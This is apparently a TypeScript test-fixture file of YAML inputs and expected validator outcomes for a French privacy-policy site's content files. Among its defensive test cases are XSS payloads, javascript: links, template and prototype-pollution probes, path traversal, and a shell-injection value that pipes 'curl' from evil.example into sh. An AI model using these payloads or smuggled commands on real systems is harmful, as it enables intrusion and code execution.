/** The text of a YAML file with the lines and rules of what refuses it; "accepted" when nothing does. */
export type YamlCase = readonly [name: string, text: string, outcome: string];

const site = (line: string) => `organisation: Exemple SA\nshop: https://exemple.fr/\n${line}\n`;
const shop = (address: string) => `organisation: Exemple SA\nshop: ${address}\n`;
const organisation = (name: string) => `organisation: ${name}\nshop: https://exemple.fr/\n`;

/** `content/site.yaml`. */
export const SITE: readonly YamlCase[] = [
  ["nothing", "", "1 cle-manquante"],
  ["a comment", "# rien\n", "1 cle-manquante"],
  ["a list", "- organisation\n", "1 cle-manquante"],
  ["JSON", '{"organisation": "Exemple SA", "shop": "https://exemple.fr/"}', "accepted"],
  [
    "JSON with a prototype",
    '{"organisation": "A", "shop": "https://exemple.fr/", "__proto__": {"url": "x"}}',
    "1 cle-inconnue",
  ],
  ["a version directive", "%YAML 1.1\n---\norganisation: A\nshop: https://exemple.fr/\n", "1 yaml"],
  [
    "merging under an old version",
    "%YAML 1.1\n---\norganisation: A\nshop: https://exemple.fr/\n<<: {noticeDays: 1}\n",
    "1 yaml",
  ],
  ["a tag directive", "%TAG ! tag:x,2000:\n---\norganisation: A\nshop: https://exemple.fr/\n", "1 yaml"],
  ["no shop, as an association has none", "organisation: Association des Ormes\n", "accepted"],
  ["a document's start", "---\norganisation: A\nshop: https://exemple.fr/\n", "accepted"],
  ["two documents", `${site("")}---\n${site("")}`, "4 yaml"],
  ["front matter's delimiters", `---\n${site("")}---\n`, "5 yaml"],
  ["JavaScript", "---js\nprocess.exit(7)\n---\n", "3 yaml"],
  ["a mapping of a mapping", "organisation: {nom: A}\nshop: https://exemple.fr/\n", "1 valeur"],
  ["markup in the name", organisation("<script>alert(1)</script>"), "accepted"],
  ["quotation marks in the name", organisation(`'" onmouseover="alert(1)'`), "accepted"],
  ["a template in the name", organisation("'{# 7 * 7 #}@(7 * 7)'"), "accepted"],
  ["the end of a title in the name", organisation("</title><script>"), "accepted"],
  ["the end of XML in the name", organisation("']]></title>&x;'"), "accepted"],
  ["the end of a style in the name", organisation("'</style>*/'"), "accepted"],
  ["a string of CSS in the name", organisation(`'\\"; } @import "//x"; {'`), "accepted"],
  ["a script in an address", shop("javascript:alert(1)"), "2 valeur"],
  ["data in an address", shop("data:text/html,x"), "2 valeur"],
  ["an address without TLS", shop("http://exemple.fr/"), "2 valeur"],
  ["an address without a scheme", shop("//exemple.fr/"), "2 valeur"],
  ["an address with credentials", shop("https://a:b@exemple.fr/"), "2 valeur"],
  ["an address with a quotation mark", shop(`'https://exemple.fr/"onx="'`), "2 valeur"],
  ["an address with markup", shop("https://exemple.fr/<script>"), "2 valeur"],
  ["an address with a backslash", shop("https:\\\\exemple.fr"), "2 valeur"],
  ["an address with a space", shop("'https://exemple.fr/ x'"), "2 valeur"],
  ["an address with a line's end", shop('"https://exemple.fr/\\nx"'), "2 valeur"],
  ["an address without a host", shop("https://"), "2 valeur"],
  ["an address that is only dots", shop("https://../"), "accepted"],
  ["an address with an impossible port", shop("https://exemple.fr:99999/"), "2 valeur"],
  ["an address with entities", shop("https://exemple.fr/?a=b&lt;c"), "accepted"],
  ["an address that is a list", shop("[https://exemple.fr/]"), "2 valeur"],
  ["a host in another alphabet", shop("https://аррӏе.com/"), "accepted"],
  ["a host that is a number", shop("https://2130706433/"), "accepted"],
  ["the site's address with a query", site("url: https://exemple.fr/?a="), "3 valeur"],
  ["the site's address with a fragment", site("url: https://exemple.fr/#"), "3 valeur"],
  ["a shell command in the site's address", site("url: https://exemple.fr/;curl${IFS}evil.example|sh"), "3 valeur"],
  ["a shell substitution in the site's address", site("url: https://exemple.fr/$(id)"), "3 valeur"],
  ["a grave accent in the site's address", site("url: https://exemple.fr/`id`"), "3 valeur"],
  ["a script for a repository", site("repository: javascript:alert(1)//"), "3 valeur"],
  ["a repository by SSH", site("repository: git@github.com:exemple/politique"), "3 valeur"],
  ["a repository with a fragment", site("repository: https://github.com/exemple#"), "3 valeur"],
  ["days in words", site("noticeDays: trente"), "3 valeur"],
  ["days below zero", site("noticeDays: -1"), "3 valeur"],
  ["days without end", site("noticeDays: .inf"), "3 valeur"],
  ["a fraction of days", site("noticeDays: 1.5"), "3 valeur"],
  ["an unknown situation", site("situations: [tout]"), "3 valeur"],
  ["a situation that is a method", site("situations: [toString]"), "3 valeur"],
  ["a situation that can't be printed", site("situations: [{toString: 1, valueOf: 2}]"), "3 valeur"],
  ["an anchor", site("situations: &a []"), "3 yaml"],
  ["a tag", site("noticeDays: !!int '3'"), "3 yaml"],
];

const quoted = "Texte de l’autre section.";
const row = (line: string) =>
  `traitements:\n  - purpose: Finalité\n    section: autre\n    quote: Texte.\n    ${line}\n`.replace("Texte.", quoted);
const term = (line: string) =>
  `termes:\n  - term: cookie\n    definition: Un fichier.\n    source: CNIL\n    ${line}\n`;

/** `content/traitements.yaml`, beside a section that says « Texte de l’autre section. ». */
export const PROCESSINGS: readonly YamlCase[] = [
  ["nothing", "", "1 cle-manquante"],
  ["an empty list", "traitements: []\n", "accepted"],
  ["no list", "traitements: oui\n", "1 valeur"],
  ["a lost quotation", row("data: []").replace(quoted, "Jamais écrit ici."), "4 citation-perdue"],
  ["a lost section", row("data: []").replace("section: autre", "section: nulle-part"), "3 citation-perdue"],
  [
    "a section of the prototype",
    row("data: []").replace("section: autre", "section: constructor"),
    "3 citation-perdue",
  ],
  ["a section that climbs", row("data: []").replace("section: autre", "section: ../site"), "3 citation-perdue"],
  ["a quotation too short", row("data: []").replace(quoted, "Texte"), "4 valeur"],
  ["markup in a purpose", row("data: []").replace("Finalité", "<script>alert(1)</script>"), "accepted"],
  ["markup in data", row("data: ['<img src=x onerror=alert(1)>']"), "accepted"],
  ["an attribute's end in recipients", row(`recipients: ['" onmouseover="alert(1)']`), "accepted"],
  ["a template in a retention", row("retention: '{{ 7 * 7 }}'"), "accepted"],
  ["a list in a list", row("data: [[nom]]"), "5 valeur"],
  ["a term of another vocabulary", row("terms: [evil:Term]"), "5 valeur"],
  ["markup in a term", row("terms: ['dpv:\"><script>']"), "5 valeur"],
  ["yes for true", row("obligatory: yes"), "5 valeur"],
  ["an unknown key", row("purposes: a"), "5 cle-inconnue"],
  ["two unknown keys", row("un: 1\n    deux: 2"), "5 cle-inconnue, 6 cle-inconnue"],
  ["a method as a key", row("toString: 1"), "5 cle-inconnue"],
];

/** `content/glossaire.yaml`. */
export const GLOSSARY: readonly YamlCase[] = [
  ["nothing", "", "1 cle-manquante"],
  ["an empty list", "termes: []\n", "accepted"],
  ["markup in a definition", term("forms: []").replace("Un fichier.", "<script>alert(1)</script>"), "accepted"],
  ["markup in a source", term("forms: []").replace("CNIL", "'\"><svg onload=alert(1)>'"), "accepted"],
  ["markup in a term", term("forms: []").replace("term: cookie", "term: '<b>cookie</b>'"), "accepted"],
  [
    "an attribute's end in a term",
    term("forms: []").replace("term: cookie", `term: 'Texte" onfocus="alert(1)'`),
    "accepted",
  ],
  ["an attribute's end in a form", term(`forms: ['Texte" onfocus="alert(1)']`), "accepted"],
  ["a regular expression in a form", term("forms: ['(a+)+$', '.*', '[']"), "accepted"],
  ["a replacement pattern in a form", term("forms: ['$&', \"$'\"]"), "accepted"],
  ["a script in an address", term("address: javascript:alert(1)"), "5 valeur"],
  ["an address without TLS", term("address: http://exemple.fr"), "5 valeur"],
  ["an empty form", term("forms: ['']"), "5 valeur"],
];

/** `release.yaml` of a sealed version whose checksums are right. */
const release = (change: (text: string) => string) =>
  change('published: "2027-01-01"\neffective: "2027-01-01"\nkind: "substantielle"\nnote: |\n  Première version.\n');

export const RELEASE: readonly YamlCase[] = [
  ["nothing", "", "1 cle-manquante"],
  ["as it should be", release((text) => text), "accepted"],
  ["markup in the note", release((text) => text.replace("Première", "<script>alert(1)</script>")), "4 code-html"],
  [
    "a script in the note's link",
    release((text) => text.replace("Première", "[x](javascript:alert(1))")),
    "4 lien-interdit",
  ],
  ["an image in the note", release((text) => text.replace("Première", "![x](https://evil.example/x.png)")), "4 image"],
  ["a title in the note", release((text) => text.replace("Première", "# Titre")), "4 titre"],
  ["a dead link in the note", release((text) => text.replace("Première", "[x](#nulle-part)")), "4 lien-mort"],
  [
    "markup in a note whose key is quoted",
    release((text) => text.replace("note: |\n  Première", '"note": |\n  <b>x</b>')),
    "4 code-html",
  ],
  ["a template in the note", release((text) => text.replace("Première", "{{ 7 * 7 }} {% raw %} ${1}")), "accepted"],
  ["an empty note", release((text) => text.replace(/note[^]*/, 'note: ""\n')), "4 valeur"],
  ["a note that is a list", release((text) => text.replace(/note[^]*/, "note: [a]\n")), "4 valeur"],
  ["an unknown kind", release((text) => text.replace("substantielle", "toString")), "3 valeur"],
  ["a date that never was", release((text) => text.replaceAll("2027-01-01", "2027-02-30")), "1 valeur, 2 valeur"],
  [
    "a date without quotation marks",
    release((text) => text.replaceAll('"2027-01-01"', "2027-01-01")),
    "1 date-sans-guillemets, 2 date-sans-guillemets",
  ],
  [
    "another date than the folder's",
    release((text) => text.replace('effective: "2027-01-01', 'effective: "2027-01-02')),
    "1 version-touchee",
  ],
  ["a publication after its effect", release((text) => text.replace("2027-01-01", "2027-06-01")), "1 version-touchee"],
  [
    "a previous version that isn't there",
    release((text) => `${text}previous: "${"0".repeat(64)}"\n`),
    "1 version-touchee",
  ],
  ["a seal that is none", release((text) => `${text}previous: "../../x"\n`), "6 valeur"],
  ["an unknown key", release((text) => `${text}x: 1\n`), "6 cle-inconnue"],
  ["a method as a key", release((text) => `${text}toString: 1\n`), "6 cle-inconnue"],
  ["an anchor", release((text) => text.replace("kind: ", "kind: &a ")), "3 yaml"],
  ["a tag", release((text) => text.replace("kind: ", "kind: !!str ")), "3 yaml"],
  ["a version directive", release((text) => `%YAML 1.1\n---\n${text}`), "1 yaml"],
];
